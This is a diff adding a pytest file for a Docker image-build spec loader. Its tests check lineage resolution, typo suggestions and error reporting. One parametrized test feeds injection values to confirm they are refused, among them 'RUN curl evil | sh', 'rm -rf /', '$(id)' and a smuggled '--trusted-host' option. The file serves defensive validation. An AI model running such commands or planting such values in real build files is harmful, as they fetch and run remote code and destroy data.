@@ -1,0 +1,115 @@
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from imagebuild.errors import SpecError
+from imagebuild.spec import load_spec
+
+from .conftest import REPO, SPEC, Stack
+
+
+def test_real_stack_loads_with_lineage_and_short_names() -> None:
+    spec = load_spec(REPO / "imagebuild.yaml")
+    assert list(spec.images) == ["vllm-node", "vllm-node-tf5", "vllm-node-mimo"]
+    assert spec.resolve("mimo") == "vllm-node-mimo"
+    assert spec.resolve("tf5") == "vllm-node-tf5"
+    assert spec.resolve("vllm-node") == "vllm-node"
+    assert spec.closure(["mimo"]) == ["vllm-node", "vllm-node-tf5", "vllm-node-mimo"]
+    assert spec.closure(["tf5"]) == ["vllm-node", "vllm-node-tf5"]
+    node = spec.images["vllm-node"]
+    assert node.base == "nvidia/cuda:13.2.0-devel-ubuntu24.04"
+    assert spec.images["vllm-node-mimo"].params.transformers == "transformers>=5.0.0"
+    gate = spec.checks["torch-gate"]
+    assert gate.kind == "output" and gate.expected == "2.11.0+cu130 13.0"
+    assert "import torch" in gate.run[-1]
+    assert spec.checks["transformers-5"].expected == ">=5.0.0"
+    assert spec.checks["vllm-locked"].kind == "locked"
+    assert [w.address for w in spec.cluster.workers][:1] == ["192.168.100.11"]
+    assert spec.backups is not None and spec.backups.directory.endswith("docker-images")
+
+
+def _fails(stack: Stack, text: str) -> SpecError:
+    stack.write_spec(text)
+    with pytest.raises(SpecError) as info:
+        stack.load()
+    assert info.value.exit_code == 2
+    return info.value
+
+
+def test_malformed_yaml_names_file_and_line(stack: Stack) -> None:
+    err = _fails(stack, SPEC.replace("  vllm-node-tf5:\n", "  vllm-node-tf5: [\n"))
+    assert f"{stack.spec_path}:" in str(err)
+    assert "malformed YAML" in str(err)
+
+
+def test_unknown_key_suggests_the_right_one(stack: Stack) -> None:
+    err = _fails(stack, SPEC.replace("    template: vllm-node-tf5", "    tempalte: vllm-node-tf5"))
+    line = SPEC.splitlines().index("    template: vllm-node-tf5.Dockerfile.j2") + 1
+    assert f"imagebuild.yaml:{line}:" in str(err)
+    assert "did you mean 'template'" in str(err)
+
+
+def test_unknown_image_name_suggests(stack: Stack) -> None:
+    spec = stack.load()
+    with pytest.raises(SpecError, match="did you mean 'mimo'"):
+        spec.resolve("mimmo")
+
+
+def test_unknown_parent_and_cycle(stack: Stack) -> None:
+    _fails(stack, SPEC.replace("parent: vllm-node-tf5", "parent: vllm-node-tf6"))
+    cyc = SPEC.replace("    base: example/base:1\n", "    parent: vllm-node-mimo\n")
+    err = _fails(stack, cyc)
+    assert "cycle" in str(err) and "vllm-node-mimo" in str(err)
+
+
+def test_wheel_not_declared(stack: Stack) -> None:
+    err = _fails(stack, SPEC.replace("wheels: [vllm, flashinfer-python]",
+                                     "wheels: [vllm, flashinfer-pyhton]"))
+    assert "flashinfer-pyhton" in str(err) and "did you mean 'flashinfer-python'" in str(err)
+
+
+def test_wheel_filename_that_does_not_parse(stack: Stack) -> None:
+    err = _fails(stack, SPEC.replace("extra_mimo-1.0-py3-none-any.whl", "extra_mimo-any.whl"))
+    assert "does not parse" in str(err)
+
+
+@pytest.mark.parametrize("old,new", [
+    ("uv: uv==0.9.7", 'uv: "uv==0.9.7\\nRUN curl evil | sh"'),
+    ("transformers: transformers>=5.0.0", 'transformers: "transformers>=5\\rRUN x"'),
+    ("      uv: uv==0.9.7", '      uv: uv==0.9.7\n      apt_packages: ["curl\\nRUN rm -rf /"]'),
+    ("      uv: uv==0.9.7", '      uv: uv==0.9.7\n      env: {A: "x\\nRUN y"}'),
+    ("      uv: uv==0.9.7", '      uv: uv==0.9.7\n      env: {A: "$(id)"}'),
+    ("      uv: uv==0.9.7", '      uv: uv==0.9.7\n      apt_packages: ["curl; rm -rf /"]'),
+    ("      uv: uv==0.9.7", '      uv: uv==0.9.7\n      pip_index: "http://x/ --trusted-host y"'),
+    ("base: example/base:1", 'base: "example/base:1\\nRUN id"'),
+])
+def test_values_that_could_inject_into_a_dockerfile_are_refused(stack: Stack, old: str,
+                                                                new: str) -> None:
+    assert old in SPEC
+    err = _fails(stack, SPEC.replace(old, new, 1))
+    assert str(stack.spec_path) in str(err)
+
+
+def test_check_needs_exactly_one_expectation(stack: Stack) -> None:
+    err = _fails(stack, SPEC.replace('    expect: "2.11.0+cu130 13.0"\n',
+                                     '    expect: "2.11.0+cu130 13.0"\n    succeeds: true\n'))
+    assert "exactly one expectation" in str(err)
+
+
+def test_missing_spec_file(tmp_path: Path) -> None:
+    with pytest.raises(SpecError, match="not found"):
+        load_spec(tmp_path / "nope.yaml")
+
+
+def test_env_var_expansion_with_default(stack: Stack, monkeypatch: pytest.MonkeyPatch) -> None:
+    stack.write_spec(SPEC.replace("state: state", "state: ${IB_TEST_STATE:-fallback}"))
+    monkeypatch.delenv("IB_TEST_STATE", raising=False)
+    assert stack.load().state_dir == stack.root / "fallback"
+    monkeypatch.setenv("IB_TEST_STATE", "/srv/x")
+    assert stack.load().state_dir == Path("/srv/x")
+    stack.write_spec(SPEC.replace("state: state", "state: ${IB_TEST_UNSET_VAR}/x"))
+    monkeypatch.delenv("IB_TEST_UNSET_VAR", raising=False)
+    with pytest.raises(SpecError, match="IB_TEST_UNSET_VAR"):
+        stack.load()
